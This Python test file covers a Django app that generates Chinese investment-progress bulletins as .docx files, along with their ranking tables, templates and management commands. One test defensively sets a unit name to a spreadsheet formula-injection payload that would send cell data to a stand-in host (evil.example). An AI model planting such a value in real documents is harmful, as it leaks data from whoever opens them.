"""The 通报: its sentences and ranking table in the .docx against the frozen figures, the
printable page, the issued ones, a replacement template; and the commands."""

import io
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from docx import Document

from accounts.models import User
from closing import services
from closing.bulletin import DEFAULT_TEMPLATE
from closing.models import Bulletin, BulletinTemplate
from common.rounding import shown, shown_percent
from projects import services as project_services
from targets import closes
from targets.models import PeriodClose
from targets.reports import ranking_boards
from tests.closing.conftest import YEAR


def closes_boards(report):
    red, black = ranking_boards(report)
    return [row.unit.name for _p, row in red], [row.unit.name for _p, row in black]


def docx_text(content: bytes) -> tuple[list[str], list[list[str]]]:
    document = Document(io.BytesIO(content))
    paragraphs = [p.text for p in document.paragraphs]
    table = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    return paragraphs, table


@pytest.fixture
def closed_june(figures, commerce):
    services.month_close(year=YEAR, month=6, user=commerce)
    project_services.inflow_verify(inflow=figures["pending"], user=commerce)  # after the close
    return closes.closed_report(YEAR, 6)


def test_the_docx_says_the_frozen_figures_in_the_usual_sentences(closed_june, commerce):
    issued = services.bulletin_issue(
        year=YEAR, month=6, number="商务通报〔2025〕6号", user=commerce
    )
    with issued.file.open("rb") as handle:
        paragraphs, table = docx_text(handle.read())
    district = closed_june.district["fdi_actual"]
    rate = shown_percent(district.rate)  # 512 / 4903 = 10.44%
    assert rate == D("10.44")
    sentence = (
        f"1–6月，全区实际到位外资512.00万美元，完成年度任务的{rate}%，"
        f"欠序时进度{abs(district.points)}个百分点，同比增长28.00%。"
    )
    assert sentence in paragraphs
    assert district.points == D("-39.56")
    assert "商务通报〔2025〕6号" in paragraphs
    assert issued.title in paragraphs
    assert issued.title == "关于2025年1–6月全区招商引资目标任务完成情况的通报"
    assert issued.closed
    # the ranking table: header, then one row per ranked unit with its 综合得分
    assert table[0] == ["名次", "责任单位", "综合得分", "状态"]
    expected = [
        [str(place), row.unit.name, f"{shown(row.score)}", ""]
        for place, row in closes.ranking_places(closed_june)
    ]
    assert [r[:3] for r in table[1:]] == [r[:3] for r in expected]
    assert table[1][1] == "甲镇" and table[2][1] == "乙镇"
    assert table[2][3] == "严重滞后"
    assert "严重滞后单位（1个）：乙镇" in paragraphs
    red, black = closes_boards(closed_june)
    assert red == ["甲镇", "乙镇"] and black == []  # two units, a board of five: all red
    assert "红榜：甲镇、乙镇" in paragraphs and "黑榜：无" in paragraphs
    today = timezone.localdate()
    assert f"{today.year}年{today.month}月{today.day}日" in paragraphs


def test_a_bulletin_of_an_open_month_is_marked_未关账(figures, commerce):
    issued = services.bulletin_issue(year=YEAR, month=5, user=commerce)
    assert not issued.closed and "未关账" in issued.title
    with issued.file.open("rb") as handle:
        paragraphs, _table = docx_text(handle.read())
    assert any("未关账" in p for p in paragraphs)


def test_the_printable_page_and_the_download(closed_june, client_as):
    client = client_as("clerk")
    response = client.get(reverse("closing:bulletin", args=[YEAR, 6]))
    page = response.content.decode()
    assert "1–6月，全区实际到位外资512.00万美元" in page
    assert "严重滞后单位（1个）：乙镇" in page
    download = client.get(reverse("closing:bulletin", args=[YEAR, 6]) + "?format=docx")
    assert download["Content-Type"].startswith("application/vnd.openxmlformats")
    paragraphs, _table = docx_text(download.content)
    assert any("512.00万美元" in p for p in paragraphs)
    assert not Bulletin.objects.exists()  # viewing keeps nothing


def test_the_page_of_a_month_not_ended_explains(db, client_as):
    today = timezone.localdate()
    response = client_as("clerk").get(
        reverse("closing:bulletin", args=[today.year, today.month]), follow=True
    )
    assert "尚未结束" in response.content.decode()


def test_issued_bulletins_are_kept_and_listed(closed_june, client_as):
    client = client_as("commerce")
    response = client.post(
        reverse("closing:bulletin_issue", args=[YEAR, 6]), {"number": "TB-6"}, follow=True
    )
    assert "已生成通报" in response.content.decode()
    issued = Bulletin.objects.get()
    assert issued.issued_by_name == "commerce" and issued.number == "TB-6"
    listing = client_as("other_clerk").get(reverse("closing:bulletins")).content.decode()
    assert issued.title in listing and "commerce" in listing
    file = client_as("other_clerk").get(reverse("closing:bulletin_file", args=[issued.pk]))
    assert file.status_code == 200
    paragraphs, _table = docx_text(file.content)
    assert "TB-6" in paragraphs


def test_a_replacement_template_is_stored_and_used(closed_june, client_as, commerce):
    template = Document(str(DEFAULT_TEMPLATE))
    template.paragraphs[0].runs[0].text = "某区商务局（自定义信头）"
    buffer = io.BytesIO()
    template.save(buffer)
    client = client_as("commerce")
    upload = SimpleUploadedFile("letterhead.docx", buffer.getvalue())
    response = client.post(reverse("closing:template_upload"), {"file": upload}, follow=True)
    assert "已上传新的通报模板" in response.content.decode()
    assert BulletinTemplate.objects.get().original_name == "letterhead.docx"
    issued = services.bulletin_issue(year=YEAR, month=6, user=commerce)
    with issued.file.open("rb") as handle:
        paragraphs, _table = docx_text(handle.read())
    assert paragraphs[0] == "某区商务局（自定义信头）"


def test_a_template_that_is_not_a_docx_is_refused(db, client_as):
    client = client_as("commerce")
    bad = SimpleUploadedFile("fake.docx", b"not a zip at all")
    response = client.post(reverse("closing:template_upload"), {"file": bad}, follow=True)
    assert "模板无法使用" in response.content.decode()
    other = SimpleUploadedFile("notes.txt", b"x")
    response = client.post(reverse("closing:template_upload"), {"file": other}, follow=True)
    assert ".docx" in response.content.decode()
    assert not BulletinTemplate.objects.exists()


# --- the commands ---------------------------------------------------------------------------


def test_close_month_closes_once_and_says_so(figures, capsys):
    call_command("close_month", year=YEAR, month=6)
    assert "已关账" in capsys.readouterr().out
    close = PeriodClose.objects.get()
    assert close.closed_by is None and close.closed_by_name.startswith("命令行")
    call_command("close_month", year=YEAR, month=6)
    assert "未做任何修改" in capsys.readouterr().out
    assert PeriodClose.objects.count() == 1


def test_close_month_as_a_named_user(figures, commerce, clerk):
    call_command("close_month", year=YEAR, month=6, user="commerce")
    assert PeriodClose.objects.get().closed_by == commerce
    with pytest.raises(CommandError, match="无权关账"):
        call_command("close_month", year=YEAR, month=7, user="clerk_a")
    with pytest.raises(CommandError, match="找不到账号"):
        call_command("close_month", year=YEAR, month=7, user="nobody")


def test_close_month_refuses_a_month_not_ended_and_bad_arguments(db):
    today = timezone.localdate()
    with pytest.raises(CommandError, match="尚未结束"):
        call_command("close_month", year=today.year, month=today.month)
    with pytest.raises(CommandError, match="月份"):
        call_command("close_month", year=YEAR, month=13)
    with pytest.raises(CommandError, match="年度"):
        call_command("close_month", year=1800, month=1)
    assert not PeriodClose.objects.exists()


def test_progress_report_closed_prints_the_frozen_figures(closed_june, capsys):
    call_command("progress_report", year=YEAR, as_of="2025-06-30", closed=True)
    frozen = capsys.readouterr().out
    call_command("progress_report", year=YEAR, as_of="2025-06-30")
    live = capsys.readouterr().out
    assert "全区,全区,fdi_actual,4903.00,512.00," in frozen
    assert "全区,全区,fdi_actual,4903.00,612.00," in live
    with pytest.raises(CommandError, match="尚未关账"):
        call_command("progress_report", year=YEAR, as_of="2025-05-31", closed=True)
    with pytest.raises(CommandError, match="不是月末"):
        call_command("progress_report", year=YEAR, as_of="2025-06-15", closed=True)


def test_the_bulletin_command_writes_the_docx(closed_june, tmp_path, capsys):
    out = tmp_path / "tb.docx"
    call_command("bulletin", year=YEAR, month=6, output=str(out), number="TB-9")
    paragraphs, _table = docx_text(out.read_bytes())
    assert any("1–6月，全区实际到位外资512.00万美元" in p for p in paragraphs)
    assert "关账数据" in capsys.readouterr().err
    assert Bulletin.objects.get().issued_by_name.startswith("命令行")
    open_out = tmp_path / "open.docx"
    call_command("bulletin", year=YEAR, month=5, output=str(open_out))
    paragraphs, _table = docx_text(open_out.read_bytes())
    assert any("未关账" in p for p in paragraphs)


def test_the_bulletin_command_answers_bad_arguments_in_one_chinese_line(db, tmp_path):
    with pytest.raises(CommandError, match="不存在"):
        call_command("bulletin", year=YEAR, month=6, output=str(tmp_path / "no" / "x.docx"))
    with pytest.raises(CommandError, match=r"\.docx"):
        call_command("bulletin", year=YEAR, month=6, output=str(tmp_path / "x.txt"))
    today = timezone.localdate()
    with pytest.raises(CommandError, match="尚未结束"):
        call_command(
            "bulletin", year=today.year, month=today.month, output=str(tmp_path / "x.docx")
        )
    assert not Bulletin.objects.exists()


def test_hostile_unit_names_come_out_of_the_docx_as_the_text_typed(figures, commerce, unit_b):
    unit_b.name = '=HYPERLINK("http://evil.example/?x="&A1,"<b>乙镇</b>")'
    unit_b.save()
    services.month_close(year=YEAR, month=6, user=commerce)
    issued = services.bulletin_issue(year=YEAR, month=6, user=commerce)
    with issued.file.open("rb") as handle:
        paragraphs, table = docx_text(handle.read())
    assert table[2][1] == unit_b.name
    assert f"严重滞后单位（1个）：{unit_b.name}" in paragraphs


def test_the_bulletins_list_costs_the_same_whatever_the_number_filed(closed_june, client_as):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_as("clerk")
    commerce = User.objects.get(username="commerce")
    services.bulletin_issue(year=YEAR, month=6, user=commerce)
    with CaptureQueriesContext(connection) as ctx:
        client.get(reverse("closing:bulletins"))
    before = len(ctx.captured_queries)
    for _ in range(4):
        services.bulletin_issue(year=YEAR, month=6, user=commerce)
    with CaptureQueriesContext(connection) as ctx:
        client.get(reverse("closing:bulletins"))
    assert len(ctx.captured_queries) == before


def test_ranking_report_closed_prints_the_frozen_ranking(closed_june, capsys):
    call_command("ranking_report", year=YEAR, as_of="2025-06-30", closed=True)
    frozen = capsys.readouterr().out
    call_command("ranking_report", year=YEAR, as_of="2025-06-30")
    live = capsys.readouterr().out
    assert frozen.splitlines()[0] == live.splitlines()[0]  # the same contract columns
    assert frozen != live  # the money verified after the close moved the live scores only
    with pytest.raises(CommandError, match="尚未关账"):
        call_command("ranking_report", year=YEAR, as_of="2025-05-31", closed=True)
